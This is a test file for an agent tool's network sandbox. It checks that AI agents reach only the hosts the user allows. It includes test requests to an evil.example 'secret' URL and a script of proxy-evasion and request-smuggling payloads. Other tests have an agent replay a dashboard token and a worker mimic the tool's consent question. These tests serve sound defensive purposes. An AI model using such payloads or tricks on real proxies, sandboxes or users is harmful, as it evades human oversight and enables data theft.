"""B2: in the sandbox an agent and a check reach the hosts that the user's settings allow, and nothing else."""

from __future__ import annotations

import os
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import Result
from support.plan_repo import PlanRepo
from support.quick_cases import few_of
from support.ui_client import Dashboard

from sow.system.sandbox import sandbox_state

OFF = ("--review", "off", "--retries", "0", "--yes")
PROBLEM = sandbox_state("bwrap", os.environ).problem
needs_box = pytest.mark.skipif(bool(PROBLEM), reason=f"no sandbox here: {PROBLEM}")

# Asks for a URL as most programs do (with the variables of the proxy) or directly; prints the status and the text.
ASK = """
import sys, urllib.request
url, way = sys.argv[1:]
handlers = [urllib.request.ProxyHandler({})] if way == "direct" else []
try:
    answer = urllib.request.build_opener(*handlers).open(url, timeout=20)
except urllib.error.HTTPError as error:
    answer = error
print(answer.status, answer.read().decode())
sys.exit(0 if answer.status == 200 else 1)
"""


class Server:
    """A server of this machine that replies, and records its requests."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.hosts: list[str] = []  # as the requests name it
        paths, hosts = self.paths, self.hosts

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                hosts.append(self.headers["Host"])
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"hello")

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()


@pytest.fixture
def server() -> Iterator[Server]:
    made = Server()
    yield made
    made.close()


@pytest.fixture(autouse=True)
def _sandbox(plan_repo: PlanRepo) -> None:
    plan_repo.repo.environment.pop("SOW_SANDBOX", None)
    (plan_repo.folder / "ask.py").write_text(ASK)


def limit(plan_repo: PlanRepo, network: str, *hosts: str, **options: Any) -> None:
    plan_repo.configure(
        sandbox={"network": network, "hosts": list(hosts), "read": [str(plan_repo.folder)], "mode": "bwrap", **options}
    )


def asking(plan_repo: PlanRepo, url: str, way: str = "proxy") -> str:
    """Returns a command that requests a URL, and stores the answer in its folder."""
    return f"{sys.executable} {plan_repo.folder}/ask.py {url} {way}"


def work(plan_repo: PlanRepo, *commands: str) -> Result:
    """Runs a plan whose worker runs these commands; `codes.txt` has their exit codes."""
    script = "".join(f"{command} >> said.txt 2>&1; echo $? >> codes.txt; " for command in commands)
    plan_repo.simulated("hand", "implementer", [{"run": ["sh", "-c", script]}, {"status": "needs_review"}])
    plan_repo.plan("First")
    return plan_repo.run(*OFF)


def codes(plan_repo: PlanRepo) -> list[str]:
    return plan_repo.repo.git("show", "HEAD:codes.txt").split()


def log(plan_repo: PlanRepo) -> str:
    text = (plan_repo.repo.root / ".sow/local/sessions/010/1/turn-001.network").read_text()
    return "".join(line.partition(" ")[2] for line in text.splitlines(keepends=True))


@needs_box
def test_an_agent_reaches_only_the_named_hosts(plan_repo: PlanRepo, server: Server) -> None:
    """Refused connections are logged, and shown like refused commands: on the task, in the run, report and inbox."""
    other = Server()
    try:
        limit(plan_repo, "model", server.host)
        result = work(
            plan_repo,
            asking(plan_repo, f"http://{server.host}/direct", "direct"),
            asking(plan_repo, f"http://{other.host}/direct", "direct"),
            asking(plan_repo, "http://evil.example/secret"),
            asking(plan_repo, "https://evil.example/secret"),
            asking(plan_repo, "https://evil.example/again"),
            f"env -u NO_PROXY -u no_proxy {asking(plan_repo, f'http://{server.host}/through')}",
            f"env -u NO_PROXY -u no_proxy {asking(plan_repo, f'http://{other.host}/through')}",
        )
    finally:
        other.close()
    assert result.code == 0, result
    assert codes(plan_repo) == ["0", "1", "1", "1", "1", "0", "1"], plan_repo.repo.git("show", "HEAD:said.txt")
    assert (server.paths, other.paths) == (["/direct", "/through"], [])
    refused = ["evil.example:80", "evil.example:443", "evil.example:443", other.host]
    allowed = ["127.0.0.1:", server.host]
    assert [line.split()[1] for line in log(plan_repo).splitlines() if line.startswith("refused")] == refused
    assert all(f"allowed {host}" in log(plan_repo) for host in allowed), log(plan_repo)
    task = plan_repo.task("010")
    counts = {refusal["command"]: refusal["count"] for refusal in task["refusals"]}
    assert counts == {"evil.example:80": 1, "evil.example:443": 2, other.host: 1}
    assert {refusal["tool"] for refusal in task["refusals"]} == {"network"}
    sentence = f"4 connections refused: evil.example:80, evil.example:443 (2 times), {other.host}"
    assert any(concern["text"].startswith(sentence) for concern in task["concerns"]), task["concerns"]
    assert task["result"] == "YELLOW"
    shown = plan_repo.repo.ok("task", "show", "010").out
    assert "evil.example:443" in shown and "sandbox.hosts" in shown and "yolo_mode" not in shown
    assert "evil.example:443" in plan_repo.repo.ok("runs", "show").out
    assert plan_repo.has_happened("refused", tool="network", command="evil.example:443")
    assert "evil.example:443" in result.out
    assert "; checks, implementer with named hosts only" in result.out


# Sends the proxy what no program would, and prints how it answers: a status, or 0 if it hangs up.
HOSTILE = """
import os, socket, sys, urllib.parse
port, other = sys.argv[1:]
proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
def connected():
    client = socket.create_connection((proxy.hostname, proxy.port), 20)
    client.settimeout(20)
    return client
def send(name, *lines, more=""):
    data = "\\r\\n".join([*lines, "", more]).format(port=port, other=other).encode()
    answer = b""
    with connected() as client:
        try:
            client.sendall(data)
            while piece := client.recv(65536):
                answer += piece
        except ConnectionError:
            pass
    print(name, answer[9:12].decode() or "0", answer.count(b"HTTP/1."), flush=True)
hello = "GET http://127.0.0.1:{port}/"
second = "GET /smuggled HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n"
send("neighbour", "CONNECT 127.0.0.2:{port} HTTP/1.1", "")
send("neighbour-v6", "CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1", "")
send("short-address", "CONNECT 127.1:{port} HTTP/1.1", "")
send("dot", "GET http://LocalHost.:{port}/dot HTTP/1.1", "")
send("refused-dot", "CONNECT EVIL.example.:443 HTTP/1.1", "")
send("two-dots", "CONNECT localhost..:{port} HTTP/1.1", "")
send("login", "GET http://127.0.0.1:{port}@127.0.0.1:{other}/ HTTP/1.1", "")
send("secret-login", "GET http://ada:secret@evil.example/ HTTP/1.1", "")
send("header", hello + "header HTTP/1.1", "Host: evil.example", "Host: other.example", "")
send("spaced-header", hello + "spaced HTTP/1.1", "Host : evil.example", "")
send("second", hello + "first HTTP/1.1", "Connection: keep-alive", "", more=second)
send("folded", hello + "folded HTTP/1.1", "X: y", " Content-Length: 1000", "", more=second)
send("spaced-length", hello + "length HTTP/1.1", "Content-Length : 1000", "", more=second)
send("two-lengths", hello + "lengths HTTP/1.1", "Content-Length: 0", "Content-Length: 1000", "", more=second)
send("chunks", hello + "chunks HTTP/1.1", "Transfer-Encoding: chunked", "", more="0\\r\\n\\r\\n" + second)
send("version", hello + "version HTTP/2.0", "")
send("no-end", hello + "large HTTP/1.1", "X: " + "y" * 100_000, "")
idle = [connected() for _ in range(900)]
for client in idle:
    client.close()
send("after-idle", hello + "idle HTTP/1.1", "")
"""
ANSWERED = {"dot": "/dot", "header": "/header", "second": "/first", "after-idle": "/idle"}
FORBIDDEN = {
    "neighbour": "127.0.0.2:{port}",
    "neighbour-v6": "::ffff:127.0.0.1:{port}",
    "short-address": "127.1:{port}",
    "refused-dot": "evil.example:443",
    "two-dots": "localhost..:{port}",
    "login": "127.0.0.1:{other}",
    "secret-login": "evil.example:80",
}
CUT = ("spaced-header", "folded", "spaced-length", "two-lengths", "chunks", "version", "no-end")


@needs_box
def test_hostile_requests_reach_nothing_else(plan_repo: PlanRepo, server: Server) -> None:
    """Whatever is sent to the proxy: other hosts are refused and logged, and one connection is one plain request."""
    other = Server()
    (plan_repo.folder / "hostile.py").write_text(HOSTILE)
    port, other_port = (host.partition(":")[2] for host in (server.host, other.host))
    try:
        limit(plan_repo, "model", server.host, f"localhost:{port}")
        result = work(plan_repo, f"{sys.executable} {plan_repo.folder}/hostile.py {port} {other_port}")
    finally:
        other.close()
    said = plan_repo.repo.git("show", "HEAD:said.txt")
    assert (result.code, codes(plan_repo)) == (0, ["0"]), said
    answers = {name: (int(status), int(count)) for name, status, count in map(str.split, said.splitlines())}
    expected = {**dict.fromkeys(ANSWERED, (200, 1)), **dict.fromkeys(FORBIDDEN, (403, 1)), **dict.fromkeys(CUT, (0, 0))}
    assert answers == expected
    assert (server.paths, other.paths) == (list(ANSWERED.values()), [])
    assert server.hosts == [f"localhost:{port}", *[server.host] * 3]  # and not what the request says
    refused = [line.split()[1] for line in log(plan_repo).splitlines() if line.startswith("refused")]
    assert refused == [host.format(port=port, other=other_port) for host in FORBIDDEN.values()]
    assert "secret" not in log(plan_repo)


@needs_box
def test_none_means_no_network(plan_repo: PlanRepo, server: Server) -> None:
    """With none an agent reaches nothing but itself, and sow."""
    limit(plan_repo, "none", server.host)
    own = "python3 -m http.server 8123 --bind 127.0.0.1 & sleep 1"
    result = work(
        plan_repo,
        asking(plan_repo, f"http://{server.host}/direct", "direct"),
        asking(plan_repo, f"http://{server.host}/proxy"),
        'test "$SOW_NETWORK" = none',
        f"{{ {own}; {asking(plan_repo, 'http://127.0.0.1:8123/', 'direct')}; }}",
    )
    assert result.code == 0, result
    assert codes(plan_repo) == ["1", "1", "0", "0"], plan_repo.repo.git("show", "HEAD:said.txt")
    assert server.paths == []


@pytest.mark.full
@needs_box
def test_a_role_may_differ(plan_repo: PlanRepo, server: Server) -> None:
    """sandbox.network_roles gives one role another network."""
    limit(plan_repo, "none", network_roles={"implementer": "all"})
    result = work(plan_repo, asking(plan_repo, f"http://{server.host}/", "direct"))
    assert (result.code, codes(plan_repo)) == (0, ["0"]), result


@needs_box
def test_a_plan_can_restrict_the_network(plan_repo: PlanRepo, server: Server) -> None:
    """A plan with `network: none` takes the network from its agents, whatever the settings are."""
    limit(plan_repo, "all", network_roles={"implementer": "all"})
    script = f"{asking(plan_repo, f'http://{server.host}/', 'direct')}; echo $? > codes.txt"
    plan_repo.simulated("hand", "implementer", [{"run": ["sh", "-c", script]}, {"status": "needs_review"}])
    plan_repo.plan("First", inner={"network": "none"})
    result = plan_repo.run(*OFF)
    assert (result.code, codes(plan_repo)) == (0, ["1"]), result
    assert server.paths == []


WIDER = {"model": "all", "none": "model"}


@needs_box
@pytest.mark.parametrize(("own", "wanted"), WIDER.items(), ids=WIDER)
def test_a_plan_cannot_extend_the_network(plan_repo: PlanRepo, own: str, wanted: str) -> None:
    """A plan that wants more than the user's settings is refused before anything is written."""
    limit(plan_repo, own)
    refused_without_a_trace(plan_repo, "wider than your sandbox.network", inner={"network": wanted})


@pytest.mark.full
@needs_box
def test_a_plan_can_require_the_sandbox(plan_repo: PlanRepo) -> None:
    """With `sandbox: bwrap` in the plan, a role that the settings exclude from the sandbox runs in it, too."""
    plan_repo.configure(sandbox={"mode": "auto", "roles": {"implementer": "off"}})
    script = "echo $$ > pid.txt"
    plan_repo.simulated("hand", "implementer", [{"run": ["sh", "-c", script]}, {"status": "needs_review"}])
    plan_repo.plan("First", inner={"sandbox": "bwrap"})
    result = plan_repo.run(*OFF)
    assert result.code == 0, result
    assert int(plan_repo.repo.git("show", "HEAD:pid.txt")) < 100  # a process id space of its own


def test_a_plan_cannot_weaken_the_sandbox(plan_repo: PlanRepo) -> None:
    """A plan that wants less than the user is refused, and so is one that requires the sandbox where it is off."""
    for own, wanted, words in (
        ("bwrap", "auto", "wider than your sandbox.mode (bwrap)"),
        ("auto", "off", "wider than your sandbox.mode (auto)"),
        ("off", "bwrap", "but your sandbox.mode is off"),
    ):
        plan_repo.configure(sandbox={"mode": own})
        refused_without_a_trace(plan_repo, words, inner={"sandbox": wanted})


def refused_without_a_trace(plan_repo: PlanRepo, words: str, **options: Any) -> None:
    plan_repo.plan("First", **options)
    before = plan_repo.repo.git("for-each-ref"), plan_repo.repo.git("status", "--porcelain", "--ignored")
    result = plan_repo.run(*OFF)
    assert (result.code, words in result.err) == (2, True), result
    assert (plan_repo.repo.git("for-each-ref"), plan_repo.repo.git("status", "--porcelain", "--ignored")) == before


def test_an_unknown_network_in_a_plan_is_an_error(plan_repo: PlanRepo) -> None:
    """A network that does not exist is an error of the plan."""
    refused_without_a_trace(plan_repo, "none of all, model, none", inner={"network": "some"})


WRONG: dict[str, dict[str, Any]] = {
    "sandbox.network": {"network": "some"},
    "sandbox.network_roles.implementer": {"network_roles": {"implementer": "some"}},
    "sandbox.hosts: 'http://example.org' is no host": {"hosts": ["http://example.org"]},
    "sandbox.hosts: '*' is no host": {"hosts": ["*"]},
    "sandbox.hosts: 'localhost' needs a port": {"hosts": ["localhost"]},
    "sandbox.hosts: '127.0.0.1:80' needs a port": {"hosts": ["127.0.0.1:80"]},
}


@pytest.mark.parametrize(("words", "settings"), WRONG.items(), ids=WRONG)
def test_wrong_settings_are_exit_2(plan_repo: PlanRepo, words: str, settings: dict[str, Any]) -> None:
    """A wrong network or host in the user's settings ends the call with exit 2."""
    plan_repo.configure(sandbox=settings)
    refused_without_a_trace(plan_repo, words)


@pytest.mark.parametrize("network", ["model", "none"])
def test_no_silent_fallback(plan_repo: PlanRepo, network: str) -> None:
    """Without a working bubblewrap a limited network is an error, also in mode auto and for a single role."""
    program = plan_repo.folder / "bin" / "bwrap"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\necho 'bwrap: Creating new namespace failed' >&2\nexit 1\n")
    program.chmod(0o755)
    plan_repo.repo.environment["PATH"] = f"{program.parent}:{plan_repo.repo.environment['PATH']}"
    plan_repo.configure(sandbox={"network": network})
    refused_without_a_trace(plan_repo, f"sandbox.network is {network}, but bubblewrap does not work here")
    plan_repo.configure(sandbox={"network_roles": {"implementer": network}})
    refused_without_a_trace(
        plan_repo, f"the network of implementer is limited ({network}), but bubblewrap", commit=False
    )
    plan_repo.configure(sandbox={"network_roles": {"checks": network}})
    refused_without_a_trace(plan_repo, f"sandbox.network_roles.checks is {network}, but", commit=False)
    plan_repo.configure(sandbox={})
    refused_without_a_trace(plan_repo, "the network of implementer is limited (none), but", inner={"network": "none"})


@needs_box
def test_a_program_outside_the_sandbox_is_an_error(plan_repo: PlanRepo) -> None:
    """A CLI that does not run in the sandbox, and a role without it, cannot have a limited network."""
    plan_repo.configure(sandbox={"network": "model"})
    refused_without_a_trace(plan_repo, "is limited (model), but hand does not run in the sandbox")
    plan_repo.configure(sandbox={"network": "model", "roles": {"implementer": "off"}})
    refused_without_a_trace(plan_repo, "is limited (model), but the sandbox of implementer is off", commit=False)


# Each asks the dashboard for a cookie, with a good token.
KNOCK = """
import http.client, json, sys
port, token = int(sys.argv[1]), sys.argv[2]
headers = {"Origin": f"http://127.0.0.1:{port}", "Content-Type": "application/json", "X-Sow": "1"}
line = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
line.request("POST", "/api/session", json.dumps({"token": token}), headers)
answer = line.getresponse()
print(answer.status, answer.read().decode())
sys.exit(0 if answer.status == 403 else 1)
"""


@needs_box
@few_of("network", ["all", "model"], 1)
def test_the_dashboard_refuses_a_sandboxed_process(plan_repo: PlanRepo, network: str) -> None:
    """It is refused with the right token, without marks, and also through the proxy of its sandbox."""
    plan_repo.repo.ok("init")
    (plan_repo.folder / "knock.py").write_text(KNOCK)
    with Dashboard(plan_repo.repo) as dashboard:
        limit(plan_repo, network, dashboard.host)
        knock = f"{sys.executable} {plan_repo.folder}/knock.py {dashboard.port} {dashboard.secrets()['token']}"
        result = work(
            plan_repo, f"setsid -w env -i {knock}", f"cat {plan_repo.repo.environment['HOME']}/.config/sow/ui/*"
        )
    assert (result.code, codes(plan_repo)) == (0, ["0", "1"]), plan_repo.repo.git("show", "HEAD:said.txt")
    assert "an agent sent it" in plan_repo.repo.git("show", "HEAD:said.txt")


def checking(plan_repo: PlanRepo, url: str) -> None:
    """A plan of two tasks whose only check requests a URL."""
    plan_repo.configure(run={"baseline": "on"}, sandbox={"read": [str(plan_repo.folder)]})
    plan_repo.plan(
        *({"name": name, "test_commands": [asking(plan_repo, url, "direct")]} for name in ("First", "Second"))
    )


@needs_box
@few_of("answer", ["yes", "no"], 1)
def test_a_check_that_needs_the_network_is_a_question(plan_repo: PlanRepo, server: Server, answer: str) -> None:
    """Checks run offline. If they pass on the base commit only with the network, the user is asked once."""
    checking(plan_repo, f"http://{server.host}/")
    first = plan_repo.run(*OFF, "--max-concurrency", "1")
    assert first.code == 4, first
    asked = server.paths.copy()
    assert len(asked) <= 2
    assert "checks of this repository pass only with the network" in plan_repo.repo.ok("inbox").out
    plan_repo.repo.ok("answer", "010", answer)
    second = plan_repo.run(*OFF)
    assert (second.code == 0) == (answer == "yes"), second.out + second.err
    assert (len(server.paths) > len(asked)) == (answer == "yes")
    questions = [question["text"] for task in ("010", "020") for question in plan_repo.task(task).get("questions", ())]
    assert all("pass only with the network" in text for text in questions)
    passed = [entry["passed"] for entry in plan_repo.task("010")["evidence"]]
    assert passed[-1] is (answer == "yes")


@needs_box
def test_a_question_of_a_worker_opens_no_network(plan_repo: PlanRepo, server: Server) -> None:
    """A worker asks in the words of sow's own question; the user's yes does not count for the checks."""
    question = "checks of this repository pass only with the network of ideas. May I go on?"
    ending: dict[str, Any] = {"status": "needs_review"}
    plan_repo.simulated("asker", "implementer", [ending], t010=[[{"ask": question}], [ending]])
    command = asking(plan_repo, f"http://{server.host}/", "direct")
    plan_repo.plan({"name": "First", "test_commands": [command]})
    assert plan_repo.run(*OFF).code == 4
    plan_repo.repo.ok("answer", "010", "yes")
    plan_repo.run(*OFF)
    consents = [path for path in Path(plan_repo.repo.environment["HOME"]).rglob("network/*") if path.is_file()]
    assert not any("may use" in path.read_text() for path in consents)


@pytest.mark.full
@needs_box
def test_the_settings_decide_for_checks(plan_repo: PlanRepo, server: Server) -> None:
    """sandbox.network_roles.checks gives checks the network, or a few hosts; then no question is asked."""
    checking(plan_repo, f"http://{server.host}/")
    plan_repo.configure(
        sandbox={"read": [str(plan_repo.folder)], "network_roles": {"checks": "model"}, "hosts": [server.host]}
    )
    result = plan_repo.run(*OFF)
    assert result.code == 0, result
    assert "; checks with named hosts only" in result.out
    assert server.paths


@needs_box
def test_setup_has_the_network(plan_repo: PlanRepo, server: Server) -> None:
    """Setup downloads packages, so it keeps the network while checks run offline."""
    checking(plan_repo, "http://127.0.0.1:9/")
    plan_repo.configure(worktree={"setup": [asking(plan_repo, f"http://{server.host}/setup", "direct").split()]})
    plan_repo.plan({"name": "First", "test_commands": ["true"]})
    result = plan_repo.run(*OFF)
    assert result.code == 0, result
    assert "/setup" in server.paths
    assert "; checks without network" in result.out
